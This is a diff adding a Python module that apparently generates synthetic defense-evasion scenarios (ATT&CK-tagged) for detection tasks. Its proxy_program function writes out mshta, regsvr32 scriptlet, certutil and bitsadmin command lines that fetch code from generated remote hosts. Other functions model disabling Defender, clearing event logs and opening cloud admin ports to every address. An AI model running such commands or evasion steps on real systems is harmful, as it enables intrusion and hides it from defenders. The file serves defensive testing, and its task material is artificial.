@@ -1,0 +1,160 @@
+"""Defense evasion: signed programs that run foreign code, threads in others, blinded sensors and trails."""
+
+from __future__ import annotations
+
+from tasks.families.story import (
+    ADDRESS,
+    HOST,
+    SYSTEM32,
+    TOOL,
+    Family,
+    actor,
+    answer,
+    colleague,
+    connect,
+    halves,
+    launch,
+    listed,
+    trail,
+)
+from tasks.scene import Lead, Plan, Scene
+
+
+def proxy_program(scene: Scene, plan: Plan) -> Lead:
+    """A signed system program fetches or runs foreign code."""
+    site = f"http://{scene.domain()}/{scene.word()}"
+    tool, bad, good = scene.pick(
+        (
+            ("mshta.exe", f"{site}.hta", "C:\\Apps\\Kiosk\\start.hta"),
+            ("regsvr32.exe", f"/s /n /u /i:{site}.sct scrobj.dll", "/s C:\\Windows\\System32\\msxml6.dll"),
+            ("certutil.exe", f"-urlcache -split -f {site}.bin", "-store my"),
+            ("bitsadmin.exe", f"/transfer job /download {site} C:\\ProgramData\\x.bin", "/list /allusers"),
+        )
+    )
+    who, at = actor(scene, plan, tool), scene.moment(200)
+    parent = scene.pick((SYSTEM32 + "cmd.exe", "C:\\Windows\\explorer.exe", SYSTEM32 + "svchost.exe"))
+    launch(scene, at, who, SYSTEM32 + tool, f"{tool} {good if plan.telling == 'below' else bad}", parent)
+    return who.lead(tool, at, answer(scene, at, who, SYSTEM32 + tool, plan))
+
+
+def injected_thread(scene: Scene, plan: Plan) -> Lead:
+    """A program runs a thread in another."""
+    who, at = actor(scene, plan), scene.moment(60)
+    path = {
+        "confirmed": scene.dropped(who.user),
+        "suspicious": f"D:\\Tools\\{scene.word()}.exe",
+        "below": scene.installed(),
+    }[plan.telling]
+    target = SYSTEM32 + scene.pick(("svchost.exe", "notepad.exe", "spoolsv.exe", "explorer.exe"))
+    scene.add(at, "process_inject", "remote_thread", who.host, who.user, process_path=path, target_path=target)
+    return who.lead(path, at, at)
+
+
+def blinded_sensor(scene: Scene, plan: Plan) -> Lead:
+    """The anti-virus is switched off and something starts; half of it where that had started before."""
+    who, at = actor(scene, plan), scene.moment(1200) + 500
+    value = scene.pick(("real-time protection off", "disabled", f"exclusion C:\\Users\\{who.user}"))
+    if plan.telling == "below":
+        value = "signatures updated"
+    scene.add(
+        at,
+        "control_change",
+        "av_setting",
+        who.host,
+        who.user,
+        control_name="Defender",
+        new_value=value,
+        process_path=SYSTEM32 + "reg.exe",
+    )
+    later = scene.between(20, 400) * (-1 if plan.telling == "suspicious" else 1)
+    start = launch(scene, at + later, who, scene.dropped(who.user))
+    return who.lead("reg.exe", min(at, start), max(at, start))
+
+
+def wiped_log(scene: Scene, plan: Plan) -> Lead:
+    """An event log is cleared, and auditing switched off; the system itself may do it."""
+    who, first = actor(scene, plan), scene.moment(500)
+    value = "success and failure" if plan.telling == "suspicious" else "off"
+    scene.add(first, "control_change", "audit_policy", who.host, who.user, control_name="Logon", new_value=value)
+    last = scene.add(
+        first + scene.between(10, 300),
+        "control_change",
+        "log_clear",
+        who.host,
+        "SYSTEM" if plan.telling == "below" else who.user,
+        control_name=scene.pick(("Security", "System", "Application")),
+        process_path=SYSTEM32 + "wevtutil.exe",
+    )
+    return who.lead("wevtutil.exe", first, last)
+
+
+def planted_library(scene: Scene, plan: Plan) -> Lead:
+    """An installed program loads a foreign library and calls an address of doubtful fame."""
+    who, at = actor(scene, plan), scene.moment(700)
+    program, remote = scene.installed(), scene.outside()
+    foreign, doubtful = halves(scene, plan)
+    listed(scene, remote, "low" if doubtful else "")
+    scene.add(
+        at,
+        "module_load",
+        "dll",
+        who.host,
+        who.user,
+        file_path=scene.dropped(who.user).replace(".exe", ".dll"),
+        signature_state="unsigned" if foreign else "signed",
+        process_path=program,
+    )
+    last = at
+    for _ in range(scene.between(1, 3)):
+        last = connect(scene, last + scene.between(5, 200), who, program, remote)
+    return who.lead(program, at, last)
+
+
+# ---------------------------------------------------------------- the cloud
+def stopped_trail(scene: Scene, plan: Plan) -> Lead:
+    """From outside, the audit trail is stopped and a key made for another account; half of it for one's own."""
+    who, first, source = actor(scene, plan), scene.moment(900), scene.outside()
+    other = colleague(scene, who) if plan.telling == "confirmed" else who.user
+    trail(scene, first, who, source, plan.telling != "below")
+    last = scene.add(
+        first + scene.between(20, 800),
+        "account",
+        "key_create",
+        who.host,
+        who.user,
+        user_name=other,
+        attributes="access key",
+        src_ip=source,
+    )
+    return who.lead("cloud administration", first, last)
+
+
+def cloud_door(scene: Scene, plan: Plan) -> Lead:
+    """From outside, the audit trail is stopped and a port of administration opened to every address."""
+    who, first, source = actor(scene, plan), scene.moment(900), scene.outside()
+    opened, stopped = halves(scene, plan)
+    port = scene.pick((22, 3389, 1433))
+    network = "0.0.0.0/0" if opened else f"{scene.outside()}/32"
+    scene.add(
+        first,
+        "control_change",
+        "firewall",
+        who.host,
+        who.user,
+        control_name="AuthorizeSecurityGroupIngress",
+        new_value=f'{{"fromPort":{port},"toPort":{port},"cidrIp":"{network}"}}',
+        src_ip=source,
+    )
+    last = trail(scene, first + scene.between(20, 800), who, source, stopped)
+    return who.lead("cloud administration", first, last)
+
+
+FAMILIES = (
+    Family("proxy_program", "T1218", "defense_evasion", proxy_program, HOST, excuses=TOOL),
+    Family("injected_thread", "T1055", "defense_evasion", injected_thread, HOST, single=True),
+    Family("blinded_sensor", "T1562.001", "defense_evasion", blinded_sensor, HOST),
+    Family("wiped_log", "T1070.001", "defense_evasion", wiped_log, HOST),
+    Family("planted_library", "T1574.002", "defense_evasion", planted_library, HOST),
+    Family("stopped_trail", "T1562.008", "defense_evasion", stopped_trail, ADDRESS),
+    Family("cloud_door", "T1562.007", "defense_evasion", cloud_door, ADDRESS),
+)
